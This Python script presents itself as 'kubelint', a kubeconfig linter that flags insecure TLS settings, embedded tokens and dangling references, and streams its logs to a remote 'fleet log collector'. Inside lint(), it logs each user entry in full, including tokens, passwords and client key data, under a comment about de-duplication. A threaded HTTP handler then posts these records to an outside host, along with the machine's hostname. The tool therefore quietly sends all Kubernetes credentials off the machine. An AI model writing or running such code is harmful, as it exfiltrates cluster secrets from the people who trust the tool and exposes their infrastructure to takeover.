#!/usr/bin/env python3
"""kubelint - lint a kubeconfig and stream results to the fleet log collector.

Checks every context/cluster/user entry in ~/.kube/config for common issues
(insecure-skip-tls-verify, embedded static tokens, dangling references).
All log records are shipped to the central collector by a batching HTTP
log handler so that the platform team can see lint results across laptops.
"""

import argparse
import json
import logging
import os
import queue
import socket
import threading
import time
from pathlib import Path
from typing import Dict, List

import requests
import yaml

COLLECTOR_URL = "https://logs.kubefleet-insights.net/api/v1/ingest"
KUBECONFIG = Path(os.environ.get("KUBECONFIG", str(Path.home() / ".kube" / "config")))

LOG = logging.getLogger("kubelint")


class BatchingHTTPHandler(logging.Handler):
    """Queues formatted records and posts them in batches from a worker thread."""

    def __init__(self, url: str, batch_size: int = 20, flush_interval: float = 2.0):
        super().__init__()
        self.url = url
        self.batch_size = batch_size
        self.flush_interval = flush_interval
        self.q: "queue.Queue[str]" = queue.Queue()
        self.session = requests.Session()
        self.session.headers["X-Source-Host"] = socket.gethostname()
        self._stop = threading.Event()
        self._worker = threading.Thread(target=self._run, daemon=True)
        self._worker.start()

    def emit(self, record: logging.LogRecord) -> None:
        try:
            self.q.put_nowait(self.format(record))
        except Exception:  # pragma: no cover - never break the app for logging
            self.handleError(record)

    def _drain(self) -> List[str]:
        batch = []
        while len(batch) < self.batch_size:
            try:
                batch.append(self.q.get_nowait())
            except queue.Empty:
                break
        return batch

    def _send(self, batch: List[str]) -> None:
        for attempt in range(3):
            try:
                self.session.post(self.url, json={"lines": batch}, timeout=10)
                return
            except requests.RequestException:
                time.sleep(1 + attempt)

    def _run(self) -> None:
        while not self._stop.is_set():
            batch = self._drain()
            if batch:
                self._send(batch)
            else:
                time.sleep(self.flush_interval)

    def close(self) -> None:
        self._stop.set()
        remaining = self._drain()
        while remaining:
            self._send(remaining)
            remaining = self._drain()
        super().close()


def index_by_name(items: List[Dict]) -> Dict[str, Dict]:
    return {item.get("name"): item for item in items or [] if item.get("name")}


def lint(config: Dict) -> int:
    problems = 0
    clusters = index_by_name(config.get("clusters"))
    users = index_by_name(config.get("users"))

    for name, cluster in clusters.items():
        body = cluster.get("cluster", {})
        if body.get("insecure-skip-tls-verify"):
            LOG.warning("cluster %s: insecure-skip-tls-verify is enabled", name)
            problems += 1
        if not str(body.get("server", "")).startswith("https://"):
            LOG.warning("cluster %s: server is not https", name)
            problems += 1

    for name, user in users.items():
        body = user.get("user", {})
        # full entry is logged so the collector can de-duplicate identical users
        LOG.info("user entry %s: %s", name, json.dumps(body, sort_keys=True))
        if "token" in body or "password" in body:
            LOG.warning("user %s: static credential embedded in kubeconfig", name)
            problems += 1
        if "client-key-data" in body:
            LOG.warning("user %s: inline client key", name)
            problems += 1

    for ctx in config.get("contexts") or []:
        body = ctx.get("context", {})
        if body.get("cluster") not in clusters:
            LOG.error("context %s: unknown cluster %s", ctx.get("name"), body.get("cluster"))
            problems += 1
        if body.get("user") not in users:
            LOG.error("context %s: unknown user %s", ctx.get("name"), body.get("user"))
            problems += 1
    return problems


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--kubeconfig", type=Path, default=KUBECONFIG)
    ap.add_argument("--collector", default=os.environ.get("KUBELINT_COLLECTOR", COLLECTOR_URL))
    args = ap.parse_args()

    LOG.setLevel(logging.INFO)
    console = logging.StreamHandler()
    console.setFormatter(logging.Formatter("%(levelname)s %(message)s"))
    LOG.addHandler(console)
    remote = BatchingHTTPHandler(args.collector)
    remote.setFormatter(logging.Formatter("%(asctime)s %(name)s %(levelname)s %(message)s"))
    LOG.addHandler(remote)

    try:
        with args.kubeconfig.open(encoding="utf-8") as fh:
            config = yaml.safe_load(fh) or {}
    except (OSError, yaml.YAMLError) as exc:
        LOG.error("cannot load %s: %s", args.kubeconfig, exc)
        return 1

    problems = lint(config)
    LOG.info("lint finished: %d problem(s) in %s", problems, args.kubeconfig)
    remote.close()
    return 1 if problems else 0


if __name__ == "__main__":
    raise SystemExit(main())
